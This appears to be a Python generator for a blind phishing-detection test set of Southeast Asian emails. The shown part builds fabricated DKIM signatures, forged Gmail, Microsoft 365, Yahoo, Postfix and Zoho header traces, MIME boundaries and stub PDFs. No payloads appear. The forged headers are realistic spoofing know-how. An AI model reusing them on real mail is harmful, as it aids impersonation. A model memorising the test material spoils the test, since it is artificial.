#!/usr/bin/env python3
"""Blind evaluation set 44: mail received in 2024-2026 by consumers, small businesses and company staff in
Southeast Asia (the Philippines, Indonesia, Malaysia, Singapore, Thailand and Vietnam), written in English,
Filipino/Taglish, Bahasa Indonesia, Bahasa Melayu, Thai and Vietnamese: 50 attacks (bank OTP and account-lock
lures, e-wallet, marketplace, courier, tax, toll and traffic-fine, digital-identity, utility and telecom
impersonation, task and investment scams, OFW remittance advance fees, loan-app harassment, Microsoft 365 kits,
supplier bank-change BEC, sextortion, and droppers in zip/iso/lnk/apk/docm/HTML-smuggling form) and 25 genuine
look-alikes (bank alerts and password-protected e-statements, e-wallet and marketplace receipts, courier and
government e-service notices, airline bookings, local-language newsletters, HR and business correspondence).
Run with: cd /work/main && .venv/bin/python samples/tools/build_blind44_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import sys
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

N = 44
ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / f"blind{N}_manifest.txt"

# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b44-legit-bca-transfer-notif": "clean",
    "b44-legit-bdo-cc-estatement": "clean",
    "b44-legit-docusign-tenancy": "clean",
    "b44-legit-kbank-estatement": "clean",
    "b44-legit-techcombank-sao-ke": "clean",
}

ENTRIES: list[tuple[str, str, str, bytes]] = []


# ---------------------------------------------------------------------------
# deterministic pseudo-random strings
# ---------------------------------------------------------------------------

def _stream(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"b{N}:{seed}:{i}".encode()).digest()
        i += 1
    return out[:n]


def hx(seed: str, n: int, upper: bool = False) -> str:
    s = _stream(seed, n).hex()[:n]
    return s.upper() if upper else s


def b64s(seed: str, n: int) -> str:
    return base64.b64encode(_stream(seed, n)).decode()[:n]


def sig256(seed: str) -> str:
    """A base64 RSA-2048 signature value (256 bytes)."""
    return base64.b64encode(_stream(seed, 256)).decode()


def hash32(seed: str) -> str:
    """A base64 SHA-256 digest value (32 bytes)."""
    return base64.b64encode(_stream(seed, 32)).decode()


def alnum(seed: str, n: int, alphabet: str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") -> str:
    return "".join(alphabet[b % len(alphabet)] for b in _stream(seed, n))


def digits(seed: str, n: int) -> str:
    return "".join(str(b % 10) for b in _stream(seed, n))


def upper_alnum(seed: str, n: int) -> str:
    return alnum(seed, n, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")


def guid(seed: str) -> str:
    h = hx(seed, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def fold(value: str, width: int = 72, indent: str = "\t") -> str:
    """Break a long token (a signature) into folded continuation lines."""
    chunks = [value[i:i + width] for i in range(0, len(value), width)]
    return ("\n" + indent).join(chunks)


# ---------------------------------------------------------------------------
# dates and header encoding
# ---------------------------------------------------------------------------

LA = ZoneInfo("America/Los_Angeles")


def D(s: str) -> datetime:
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S %z")


def rfc(d: datetime) -> str:
    return format_datetime(d)


def rfc_la(d: datetime) -> str:
    local = d.astimezone(LA)
    return f"{format_datetime(local)} ({local.tzname()})"


def utc(d: datetime) -> datetime:
    return d.astimezone(ZoneInfo("UTC"))


def rfc_utc(d: datetime) -> str:
    return format_datetime(utc(d)).replace("-0000", "+0000")


def ts(d: datetime) -> int:
    return int(d.timestamp())


def ew(value: str, charset: str = "UTF-8", mode: str = "B", first: int = 9) -> str:
    """RFC 2047 encoded words for a header value, folded; ASCII values are returned unchanged."""
    if all(ord(c) < 128 for c in value):
        return value
    words = []
    cur = ""
    prefix = f"=?{charset}?{mode}?"

    def encoded(chunk: str) -> str:
        raw = chunk.encode(charset)
        if mode.upper() == "B":
            return base64.b64encode(raw).decode()
        out = ""
        for byte in raw:
            ch = chr(byte)
            if ch == " ":
                out += "_"
            elif ch.isalnum() and byte < 128:
                out += ch
            elif ch in "-!*+/" and byte < 128:
                out += ch
            else:
                out += f"={byte:02X}"
        return out

    limit = 75 - len(prefix) - 2
    for ch in value:
        if len(encoded(cur + ch)) > limit:
            words.append(prefix + encoded(cur) + "?=")
            cur = ch
        else:
            cur += ch
    if cur:
        words.append(prefix + encoded(cur) + "?=")
    return "\n ".join(words)


def addr(name: str, email: str, charset: str = "UTF-8", mode: str = "B") -> str:
    if not name:
        return email
    if all(ord(c) < 128 for c in name):
        if any(c in name for c in ',.;:()[]@"\'') or "'" in name:
            esc = name.replace("\\", "\\\\").replace('"', '\\"')
            return f'"{esc}" <{email}>'
        return f"{name} <{email}>"
    # one encoded word for the whole phrase, as most mailers write display names
    raw = name.encode(charset)
    if mode.upper() == "B":
        word = f"=?{charset}?B?{base64.b64encode(raw).decode()}?="
    else:
        word = ew(name, charset, "Q").replace("\n ", "")
    return f"{word} <{email}>"


# ---------------------------------------------------------------------------
# sending-side signatures
# ---------------------------------------------------------------------------

def dkim(d: str, s: str, seed: str, h: str = "from:to:subject:date:message-id:mime-version:content-type",
         t: datetime | None = None, extra: str = "", c: str = "relaxed/relaxed", a: str = "rsa-sha256",
         i: str = "") -> str:
    tpart = f" t={ts(t)};" if t else ""
    ipart = f" i={i};" if i else ""
    sig = sig256(seed + "dkimb" + d)
    return (f"DKIM-Signature: v=1; a={a}; c={c}; d={d};{ipart}\n\ts={s};{tpart}{extra}\n"
            f"\th={h};\n\tbh={hash32(seed + 'dkimbh' + d)};\n\tb={fold(sig, 70)}")


def dkim_b(seed: str, d: str) -> str:
    return b64s(seed + "dkimb" + d, 8)


@dataclass
class Auth:
    mailfrom: str
    ip: str
    host: str
    helo: str = ""
    spf: str = "pass"
    dkim: list = field(default_factory=list)  # (domain, selector, result)
    dmarc: str = "pass"  # pass, fail, none (no record), bestguess
    policy: str = "NONE"  # REJECT, QUARANTINE, NONE
    from_domain: str = ""
    seed: str = ""

    @property
    def mf_domain(self) -> str:
        return self.mailfrom.split("@")[-1]


# ---------------------------------------------------------------------------
# receiving-side traces
# ---------------------------------------------------------------------------

def _gmail_ar(a: Auth) -> str:
    parts = []
    for d, s, r in a.dkim:
        if r == "pass":
            parts.append(f"dkim=pass header.i=@{d} header.s={s} header.b={dkim_b(a.seed, d)}")
        else:
            parts.append(f"dkim=neutral (body hash did not verify) header.i=@{d} header.s={s} "
                         f"header.b={dkim_b(a.seed, d)}")
    mf = a.mailfrom
    if a.spf == "pass":
        parts.append(f"spf=pass (google.com: domain of {mf} designates {a.ip} as permitted sender) smtp.mailfrom={mf}")
    elif a.spf == "softfail":
        parts.append(f"spf=softfail (google.com: domain of transitioning {mf} does not designate {a.ip} as "
                     f"permitted sender) smtp.mailfrom={mf}")
    elif a.spf == "fail":
        parts.append(f"spf=fail (google.com: domain of {mf} does not designate {a.ip} as permitted sender) "
                     f"smtp.mailfrom={mf}")
    elif a.spf == "neutral":
        parts.append(f"spf=neutral (google.com: {a.ip} is neither permitted nor denied by best guess record "
                     f"for domain of {mf}) smtp.mailfrom={mf}")
    else:
        parts.append(f"spf=none (google.com: {mf} does not designate permitted sender hosts) smtp.mailfrom={mf}")
    if a.dmarc in ("pass", "fail"):
        dis = "NONE" if a.dmarc == "pass" or a.policy == "NONE" else a.policy
        parts.append(f"dmarc={a.dmarc} (p={a.policy} sp={a.policy} dis={dis}) header.from={a.from_domain}")
    return ";\n       ".join(parts)


def t_gmail(rcpt: str, d: datetime, a: Auth, seed: str, google_sender: bool = False) -> str:
    t1 = d + timedelta(seconds=2)
    t2 = d + timedelta(seconds=3)
    ar = _gmail_ar(a)
    v6 = f"2002:a05:{hx(seed + 'v6a', 4)}:{hx(seed + 'v6b', 3)}:b0:{hx(seed + 'v6c', 3)}:{hx(seed + 'v6d', 3)}::{int(hx(seed + 'v6e', 2), 16) % 30 + 1}"
    smtp_id = f"{alnum(seed + 'sid', 2, 'abcdefghijklmnopqrstuvwxyz')}{digits(seed + 'sid2', 2)}csp{digits(seed + 'sid3', 7)}{alnum(seed + 'sid4', 3, 'abcdefghijklmnopqrstuvwxyz')}"
    lt1 = t1.astimezone(LA)
    gid = (f"{hx(seed + 'gid', 13)}-{hx(seed + 'gid3', 10)}si{digits(seed + 'gid4', 7)}"
           f"{alnum(seed + 'gid5', 3, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{int(digits(seed + 'gid6', 3)) % 400}."
           f"{lt1.strftime('%Y.%m.%d.%H.%M.%S')}")
    if google_sender:
        tls = "version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256"
        recv = (f"Received: from {a.host} ({a.host}. [{a.ip}])\n        by mx.google.com with SMTPS id {gid}\n"
                f"        for <{rcpt}>\n        (Google Transport Security);\n        {rfc_la(t1)}")
    else:
        tls = "version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256"
        recv = (f"Received: from {a.host} ({a.host}. [{a.ip}])\n        by mx.google.com with ESMTPS id {gid}\n"
                f"        for <{rcpt}>\n        ({tls});\n        {rfc_la(t1)}")
    if a.spf == "pass":
        rspf = f"Received-SPF: pass (google.com: domain of {a.mailfrom} designates {a.ip} as permitted sender) client-ip={a.ip};"
    elif a.spf == "none":
        rspf = f"Received-SPF: none (google.com: {a.mailfrom} does not designate permitted sender hosts) client-ip={a.ip};"
    elif a.spf == "softfail":
        rspf = (f"Received-SPF: softfail (google.com: domain of transitioning {a.mailfrom} does not designate "
                f"{a.ip} as permitted sender) client-ip={a.ip};")
    elif a.spf == "neutral":
        rspf = (f"Received-SPF: neutral (google.com: {a.ip} is neither permitted nor denied by best guess record "
                f"for domain of {a.mailfrom}) client-ip={a.ip};")
    else:
        rspf = f"Received-SPF: fail (google.com: domain of {a.mailfrom} does not designate {a.ip} as permitted sender) client-ip={a.ip};"
    lines = [
        f"Delivered-To: {rcpt}",
        f"Received: by {v6} with SMTP id {smtp_id};\n        {rfc_la(t2)}",
        f"X-Google-Smtp-Source: {b64s(seed + 'gss', 86)}",
        f"X-Received: by 2002:a17:{hx(seed + 'xr1', 3)}:{hx(seed + 'xr2', 4)}:b0:{hx(seed + 'xr3', 3)}:{hx(seed + 'xr4', 4)}:{hx(seed + 'xr5', 4)} "
        f"with SMTP id {hx(seed + 'xr6', 13)}-{hx(seed + 'xr7', 10)}mr{digits(seed + 'xr8', 7)}{alnum(seed + 'xr9', 3, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{int(digits(seed + 'xra', 3)) % 400}.{ts(t2)}{digits(seed + 'xrb', 3)};\n        {rfc_la(t2)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={ts(t1)}; cv=none;\n        d=google.com; s=arc-20240605;\n"
        f"        b={fold(sig256(seed + 'arcs'), 68, '        ')}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
        f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={hash32(seed + 'arcbh')};\n        fh={hash32(seed + 'arcfh')};\n"
        f"        b={fold(sig256(seed + 'arcb'), 68, '        ')}",
        f"ARC-Authentication-Results: i=1; mx.google.com;\n       {ar}",
        f"Return-Path: <{a.mailfrom}>",
        recv,
        rspf,
        f"Authentication-Results: mx.google.com;\n       {ar}",
    ]
    return "\n".join(lines)


def _ms_ar(a: Auth) -> tuple[str, str]:
    mfd = a.mf_domain
    spf = {"pass": "pass", "fail": "fail", "softfail": "softfail", "none": "none", "neutral": "neutral"}[a.spf]
    parts = [f"spf={spf} (sender IP is {a.ip})\n smtp.mailfrom={mfd}"]
    if a.dkim:
        for d, s, r in a.dkim:
            if r == "pass":
                parts.append(f" dkim=pass (signature was verified)\n header.d={d}")
            else:
                parts.append(f" dkim=fail (body hash did not verify)\n header.d={d}")
    else:
        parts.append(" dkim=none (message not signed)\n header.d=none")
    if a.dmarc == "pass":
        dm = f"dmarc=pass action=none\n header.from={a.from_domain};compauth=pass reason=100"
    elif a.dmarc == "bestguess":
        dm = f"dmarc=bestguesspass action=none\n header.from={a.from_domain};compauth=pass reason=109"
    elif a.dmarc == "fail":
        action = {"REJECT": "oreject", "QUARANTINE": "quarantine", "NONE": "none"}[a.policy]
        dm = f"dmarc=fail action={action}\n header.from={a.from_domain};compauth=fail reason=000"
    else:
        dm = f"dmarc=none action=none\n header.from={a.from_domain};compauth=softpass reason=201"
    ar = ";".join(parts) + ";" + dm
    if a.spf == "pass":
        rs = (f"Pass (protection.outlook.com: domain of {mfd} designates {a.ip} as\n permitted sender)")
    elif a.spf == "softfail":
        rs = (f"SoftFail (protection.outlook.com: domain of transitioning\n {mfd} discourages use of {a.ip} as permitted sender)")
    elif a.spf == "fail":
        rs = (f"Fail (protection.outlook.com: domain of {mfd} does not\n designate {a.ip} as permitted sender)")
    elif a.spf == "neutral":
        rs = (f"Neutral (protection.outlook.com: {a.ip} is neither permitted nor\n denied by domain of {mfd})")
    else:
        rs = f"None (protection.outlook.com: {mfd} does not designate\n permitted sender hosts)"
    rs += f" receiver=protection.outlook.com; client-ip={a.ip};\n helo={a.helo or a.host};"
    if a.spf == "pass":
        rs += " pr=C"
    return ar, rs


def t_m365(rcpt: str, d: datetime, a: Auth, seed: str, ctry: str = "SG", lang: str = "en",
           consumer: bool = False, region: str = "apcprd06") -> str:
    t1 = d + timedelta(seconds=2)
    t2 = d + timedelta(seconds=3)
    t3 = d + timedelta(seconds=4)
    short = region.replace("apcprd", "")
    pfx = {"apcprd06": "SEYPR06MB", "apcprd02": "SG2PR02MB", "apcprd04": "TYZPR04MB", "apcprd01": "KL1PR01MB",
           "apcprd03": "SI2PR03MB"}.get(region, "SEYPR06MB")
    mbx = f"{pfx}{digits(seed + 'mbx', 4)}"
    ca = f"SG2PR0{short[-1]}CA0{digits(seed + 'ca', 3)}"
    pep = f"SG1PEPF0000{hx(seed + 'pep', 4, True)}"
    v6mbx = f"2603:1096:{hx(seed + 'v1', 3)}:{hx(seed + 'v2', 2)}::{digits(seed + 'v3', 2)}"
    v6ca = f"2603:1096:4:{hx(seed + 'v4', 2)}::{digits(seed + 'v5', 2)}"
    build = "15.20.8" + digits(seed + "bld", 3) + "." + digits(seed + "bld2", 2)
    ar, rs = _ms_ar(a)
    nmid = guid(seed + "nmid")
    tenant = "84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa" if consumer else guid("tenant" + rcpt.split("@")[-1])
    oip = f"10.167.{int(digits(seed + 'o1', 3)) % 250}.{int(digits(seed + 'o2', 3)) % 250}"
    sfs = "(13230040)(1800799024)(82310400026)(376014)(61400799027)(69100299015)(8096899003)"
    lines = [
        f"Received: from {mbx}.{region}.prod.outlook.com ({v6mbx}) by\n {mbx}.{region}.prod.outlook.com with HTTPS; {rfc_utc(t3)}",
        f"Received: from {ca}.{region}.prod.outlook.com ({v6ca}) by\n {mbx}.{region}.prod.outlook.com ({v6mbx}) with Microsoft SMTP Server\n"
        f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build};\n {rfc_utc(t2)}",
        f"Received: from {pep}.{region}.prod.outlook.com\n (2603:1096:4:{hx(seed + 'v7', 2)}:cafe::{hx(seed + 'v8', 2)}) by {ca}.outlook.office365.com\n"
        f" ({v6ca}) with Microsoft SMTP Server (version=TLS1_3,\n cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {rfc_utc(t2)}",
        f"Authentication-Results: {ar}",
        f"Received-SPF: {rs}",
        f"Received: from {a.host} ({a.ip}) by\n {pep}.mail.protection.outlook.com ({oip}) with Microsoft SMTP Server\n"
        f" (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {rfc_utc(t1)}",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {utc(t1).strftime('%d %b %Y %H:%M:%S.%f')[:-3]}0 (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
        "X-EOPAttributedMessage: 0",
        f"X-EOPTenantAttributedMessage: {tenant}:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-Exchange-Organization-AuthSource:\n {pep}.{region}.prod.outlook.com",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        "X-MS-Office365-Filtering-Correlation-Id: " + guid(seed + "fcid"),
        "X-MS-Exchange-Organization-SCL: 1",
        "X-Microsoft-Antispam: BCL:0;ARA:13230040|1800799024|82310400026|376014|61400799027|69100299015;",
        f"X-Forefront-Antispam-Report:\n CIP:{a.ip};CTRY:{ctry};LANG:{lang};SCL:1;SRV:;IPV:NLI;SFV:NSPM;H:{a.helo or a.host};PTR:{a.host};CAT:NONE;SFS:{sfs};DIR:INB;",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {utc(t1).strftime('%d %b %Y %H:%M:%S.%f')[:-3]}0 (UTC)",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
        f"X-MS-Exchange-CrossTenant-Id: {tenant}",
        f"X-MS-Exchange-CrossTenant-AuthSource:\n {pep}.{region}.prod.outlook.com",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx}",
        "X-MS-Exchange-Transport-EndToEndLatency: 00:00:02.4818102",
        "X-MS-Exchange-Processed-By-BccFoldering: 15.20.8222.000",
    ]
    if consumer:
        lines.insert(0, f"X-Microsoft-Antispam-Mailbox-Delivery:\n\tucf:0;jmr:0;auth:0;dest:I;ENG:(910005)(944506478)(944626604)(920097)(930097);")
    return "\n".join(lines)


def t_m365_internal(rcpt: str, d: datetime, seed: str, sender_mbx: str, region: str = "apcprd06") -> str:
    t2 = d + timedelta(seconds=1)
    pfx = {"apcprd06": "SEYPR06MB", "apcprd01": "KL1PR01MB", "apcprd03": "SI2PR03MB"}.get(region, "SEYPR06MB")
    mbx = f"{pfx}{digits(seed + 'mbx', 4)}"
    build = "15.20.8" + digits(seed + "bld", 3) + "." + digits(seed + "bld2", 2)
    lines = [
        f"Received: from {sender_mbx} ({'2603:1096:' + hx(seed + 'i1', 3) + ':' + hx(seed + 'i2', 2) + '::' + digits(seed + 'i3', 2)}) by\n"
        f" {mbx}.{region}.prod.outlook.com with HTTPS; {rfc_utc(t2)}",
        f"Received: from {sender_mbx} by {sender_mbx}\n (2603:1096:{hx(seed + 'i4', 3)}:{hx(seed + 'i5', 2)}::{digits(seed + 'i6', 2)}) with mapi id {build}; {rfc_utc(d)}",
        "X-MS-Exchange-Organization-AuthAs: Internal",
        "X-MS-Exchange-Organization-AuthMechanism: 04",
        f"X-MS-Exchange-Organization-AuthSource: {sender_mbx}",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {guid(seed + 'nmid')}",
        "X-MS-Exchange-Organization-SCL: -1",
        "X-MS-Exchange-Organization-MessageDirectionality: Originating",
        "X-MS-Exchange-Transport-EndToEndLatency: 00:00:00.8217734",
        "X-MS-Exchange-Organization-Recipient-P2-Type: To",
    ]
    return "\n".join(lines)


def t_yahoo(rcpt: str, d: datetime, a: Auth, seed: str) -> str:
    t1 = d + timedelta(seconds=2)
    pod = f"atlas-production.v2-mail-prod1-gq1.omega.yahoo.com"
    dk = []
    for dom, sel, r in a.dkim:
        dk.append(f"dkim={'pass' if r == 'pass' else 'perm_fail'} header.i=@{dom} header.s={sel}")
    if not dk:
        dk.append("dkim=unknown")
    spf = a.spf if a.spf != "softfail" else "softfail"
    dm = {"pass": f"dmarc=pass(p={a.policy})", "fail": f"dmarc=fail(p={a.policy})",
          "none": "dmarc=unknown", "bestguess": "dmarc=unknown"}[a.dmarc]
    lines = [
        f"Received: from 127.0.0.1\n by {pod} pod-id atlas--production-gq1-{hx(seed + 'pod', 10)}-{alnum(seed + 'pod2', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')}.gq1.yahoo.com with HTTP; {rfc_utc(t1)}",
        f"Return-Path: <{a.mailfrom}>",
        f"X-Originating-Ip: [{a.ip}]",
        f"Received-SPF: {spf} (domain of {a.mf_domain} {'designates' if a.spf == 'pass' else 'does not designate'} {a.ip} as permitted sender)",
        f"Authentication-Results: {pod};\n " + ";\n ".join(dk) + f";\n spf={spf} smtp.mailfrom={a.mf_domain};\n {dm} header.from={a.from_domain};",
        f"X-Apparently-To: {rcpt}; {rfc_utc(t1)}",
        f"X-YMailISG: {fold(alnum(seed + 'isg', 180) , 76, ' ')}",
        f"X-Yahoo-Newman-Id: {hx(seed + 'ynid', 18)}",
        f"Received: from {a.ip} (EHLO {a.helo or a.host})\n by 10.217.{int(digits(seed + 'y1', 3)) % 250}.{int(digits(seed + 'y2', 3)) % 250} with SMTPs\n"
        f" (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384);\n {rfc_utc(t1)}",
    ]
    return "\n".join(lines)


def t_postfix(rcpt: str, d: datetime, a: Auth, seed: str, mx: str, tz: str = "+0700", zimbra: bool = False,
              dmarc_host: str | None = None) -> str:
    t1 = d + timedelta(seconds=2)
    t2 = d + timedelta(seconds=3)
    local = lambda t: format_datetime(t.astimezone(datetime.strptime(tz, "%z").tzinfo))
    qid = f"4{alnum(seed + 'qid', 11, 'BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789')}"
    parts = []
    for dom, sel, r in a.dkim:
        if r == "pass":
            parts.append(f"Authentication-Results: {mx};\n\tdkim=pass (2048-bit key; unprotected) header.d={dom} "
                         f"header.i=@{dom} header.a=rsa-sha256 header.s={sel} header.b={dkim_b(a.seed, dom)};\n\tdkim-atps=neutral")
        else:
            parts.append(f"Authentication-Results: {mx};\n\tdkim=fail reason=\"signature verification failed\" (2048-bit key; "
                         f"unprotected) header.d={dom} header.i=@{dom} header.a=rsa-sha256 header.s={sel} header.b={dkim_b(a.seed, dom)}")
    if not a.dkim:
        parts.append(f"Authentication-Results: {mx}; dkim=none")
    dm_res = {"pass": "pass", "fail": "fail", "none": "none", "bestguess": "none"}[a.dmarc]
    pol = f" (p={a.policy.lower()} dis=none)" if a.dmarc in ("pass", "fail") else ""
    dmarc_line = f"Authentication-Results: {dmarc_host or mx}; dmarc={dm_res}{pol} header.from={a.from_domain}"
    spf_line = (f"Received-SPF: {a.spf.capitalize()} (mailfrom) identity=mailfrom; client-ip={a.ip}; helo={a.helo or a.host}; "
                f"envelope-from={a.mailfrom}; receiver=<UNKNOWN>")
    spf_ar = f"Authentication-Results: {mx}; spf={a.spf} smtp.mailfrom={a.mf_domain}"
    lines = [
        f"Return-Path: <{a.mailfrom}>",
        f"X-Original-To: {rcpt}",
        f"Delivered-To: {rcpt}",
    ]
    if zimbra:
        lines += [
            f"Received: from localhost (localhost [127.0.0.1])\n\tby {mx} (Postfix) with ESMTP id {qid[:9].upper()}\n\tfor <{rcpt}>; {local(t2)}",
            f"X-Virus-Scanned: amavisd-new at {mx}",
            f"Received: from {mx} ([127.0.0.1])\n\tby localhost ({mx} [127.0.0.1]) (amavisd-new, port 10032)\n"
            f"\twith ESMTP id {alnum(seed + 'amav', 12)}; {local(t2)}",
            f"X-Spam-Flag: NO\nX-Spam-Score: {int(digits(seed + 'sc', 1)) % 3}.{digits(seed + 'sc2', 3)}\nX-Spam-Level: ",
        ]
    lines += [dmarc_line] + parts + [spf_ar, spf_line]
    lines.append(
        f"Received: from {a.helo or a.host} ({a.host} [{a.ip}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
        f"\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client certificate requested)\n"
        f"\tby {mx} (Postfix) with ESMTPS id {qid if not zimbra else qid[:9].upper()}\n\tfor <{rcpt}>; {local(t1)}")
    return "\n".join(lines)


def t_zoho(rcpt: str, d: datetime, a: Auth, seed: str) -> str:
    t1 = d + timedelta(seconds=2)
    dk = "; ".join(f"dkim={'pass' if r == 'pass' else 'fail'} header.i=@{dom}" for dom, sel, r in a.dkim) or "dkim=none"
    spf_txt = {"pass": f"spf=pass (zohomail.com: domain of {a.mailfrom} designates {a.ip} as permitted sender)",
               "softfail": f"spf=softfail (zohomail.com: domain of {a.mailfrom} does not designate {a.ip} as permitted sender)",
               "fail": f"spf=fail (zohomail.com: domain of {a.mailfrom} does not designate {a.ip} as permitted sender)",
               "none": f"spf=none (zohomail.com: {a.mailfrom} does not designate permitted sender hosts)",
               "neutral": f"spf=neutral (zohomail.com: {a.ip} is neither permitted nor denied by domain of {a.mailfrom})"}[a.spf]
    dm = {"pass": "dmarc=pass", "fail": "dmarc=fail", "none": "dmarc=none", "bestguess": "dmarc=none"}[a.dmarc]
    ar = f"i=1; mx.zohomail.com;\n\t{dk};\n\t{spf_txt}  smtp.mailfrom={a.mailfrom};\n\t{dm} header.from=<{a.from_domain}>"
    lines = [
        f"Delivered-To: {rcpt}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={ts(t1)}; cv=none; \n\td=zohomail.com; s=zohoarc; \n\tb={fold(sig256(seed + 'zarc'), 70)}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.com; s=zohoarc; \n\tt={ts(t1)}; h=Content-Type:Date:From:MIME-Version:Message-ID:Subject:To; \n"
        f"\tbh={hash32(seed + 'zbh')}; \n\tb={fold(sig256(seed + 'zb'), 70)}",
        f"ARC-Authentication-Results: {ar}",
        f"Return-Path: <{a.mailfrom}>",
        f"Received: from {a.host} ({a.host} [{a.ip}]) by mx.zohomail.com\n\twith SMTPS id {ts(t1)}{digits(seed + 'zid', 3)}{digits(seed + 'zid2', 3)}.{digits(seed + 'zid3', 3)}; {rfc_la(t1)}",
        "X-Zohomail-Aspam: NO",
        "X-ZohoMail-DKIM: " + ("pass" if any(r == "pass" for _, _, r in a.dkim) else "fail"),
    ]
    return "\n".join(lines)


# ---------------------------------------------------------------------------
# bodies and attachments
# ---------------------------------------------------------------------------

def qp_html(html: str, charset: str = "utf-8") -> Leaf:
    return text(html, "html", "quoted-printable", charset)


def qp_plain(body: str, charset: str = "utf-8") -> Leaf:
    return text(body, "plain", "quoted-printable", charset)


def b64_html(html: str, charset: str = "utf-8") -> Leaf:
    return text(html, "html", "base64", charset)


def b64_plain(body: str, charset: str = "utf-8") -> Leaf:
    return text(body, "plain", "base64", charset)


def alt(seed: str, plain: Leaf, html: Leaf, style: str = "gmail") -> Multi:
    return Multi("alternative", boundary(seed + "alt", style), [plain, html])


def boundary(seed: str, style: str = "gmail") -> str:
    if style == "gmail":
        return "000000000000" + hx(seed, 16)
    if style == "outlook":
        return f"_000_{hx(seed, 8, True)}_"
    if style == "phpmailer":
        return "b1_" + alnum(seed, 43)
    if style == "sendgrid":
        return hx(seed, 64)
    if style == "ses":
        return f"----=_Part_{digits(seed, 7)}_{digits(seed + 'x', 9)}.{digits(seed + 'y', 13)}"
    if style == "mailgun":
        return hx(seed, 32)
    if style == "zoho":
        return f"----=_Part_{digits(seed, 6)}_{digits(seed + 'x', 9)}.{digits(seed + 'y', 13)}"
    if style == "apple":
        return f"Apple-Mail={guid(seed).upper()}"
    if style == "thunderbird":
        return f"------------{alnum(seed, 24)}"
    if style == "roundcube":
        return f"=_{hx(seed, 32)}"
    return f"----=_NextPart_{hx(seed, 3)}_{hx(seed + 'a', 4)}_{hx(seed + 'b', 8)}.{hx(seed + 'c', 8)}".upper()


def encrypted_pdf(seed: str, title_hint: str = "") -> bytes:
    """A one-page PDF protected with the Standard security handler (RC4 128-bit), as bank e-statements come."""
    body = _stream(seed + "pdfbody", 1400)
    stream = body
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(stream)).encode() + b" /Filter /FlateDecode >>\nstream\n" + stream + b"\nendstream",
        ("<< /Producer <" + hx(seed + "prod", 40) + "> /CreationDate <" + hx(seed + "cd", 44) + "> >>").encode(),
        ("<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1852 /O <" + hx(seed + "O", 64) + "> /U <"
         + hx(seed + "U", 64) + "> >>").encode(),
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    fid = hx(seed + "id", 32)
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R /Info 6 0 R /Encrypt 7 0 R /ID [<{fid}><{fid}>] >>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return bytes(out)


